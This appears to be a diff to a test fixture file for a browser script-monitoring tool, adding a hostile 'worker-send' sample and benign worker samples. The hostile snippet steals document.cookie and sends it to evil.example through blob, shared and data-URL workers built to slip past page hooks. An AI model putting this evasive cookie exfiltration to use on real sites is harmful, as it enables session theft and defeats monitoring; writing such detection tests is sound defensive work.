@@ -54,6 +54,23 @@ export const MAIN_WORLD_SCRIPTS = {
   document.head.appendChild(fromData);
 })();`,
 
+  /**
+   * Sends the cookie from workers, out of the page world's hooks and timeline: a blob: Worker, a blob:
+   * SharedWorker, and a data: Worker given as an object whose toString makes the URL. Each posts the cookie
+   * to its worker, which fetches it to the sink.
+   */
+  'worker-send': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  const code = (name) => "onmessage = (e) => fetch('https://evil.example/" + name + "?c=' + e.data, { mode: 'no-cors' }).catch(() => {});";
+  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
+  new Worker(blob(code('worker-blob'))).postMessage(c);
+  const shared = new SharedWorker(
+    blob("onconnect = (e) => { e.ports[0].onmessage = (m) => fetch('https://evil.example/worker-shared?c=' + m.data, { mode: 'no-cors' }).catch(() => {}); };"),
+  );
+  shared.port.postMessage(c);
+  new Worker({ toString: () => 'data:text/javascript,' + encodeURIComponent(code('worker-data')) }).postMessage(c);
+})();`,
+
   /** Runs an inline script that deletes itself, then loads a script that removes itself after loading. */
   'self-remove': `(() => {
   const inline = document.createElement('script');
@@ -508,6 +525,20 @@ export const BENIGN = {
   shut(window.open('/kz/pages/questions', 'help'));
   window.__shared = true;
 })();`,
+  /** The captcha provider's proof of work, in a blob: worker (served from the provider's host). */
+  'captcha-pow': `(() => {
+  const code = "onmessage = (e) => { let n = 0; while (!String(Math.imul(e.data, ++n)).endsWith('00')); postMessage(n); };";
+  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
+  worker.onmessage = () => { window.__pow = true; };
+  worker.postMessage(7919);
+})();`,
+  /** The shop's own worker, from its own file (price formatting off the main thread). */
+  'shop-worker': `(() => {
+  const worker = new Worker('/assets/format-worker.js');
+  worker.onmessage = () => { window.__formatted = true; };
+  worker.postMessage(38000);
+})();`,
+  'format-worker': `onmessage = (e) => postMessage(new Intl.NumberFormat('kk-KZ').format(e.data));`,
   /** A monitoring library (error/performance tracking) that wraps fetch and addEventListener, calling through. */
   monitoring: `(() => {
   const fetchBefore = window.fetch;
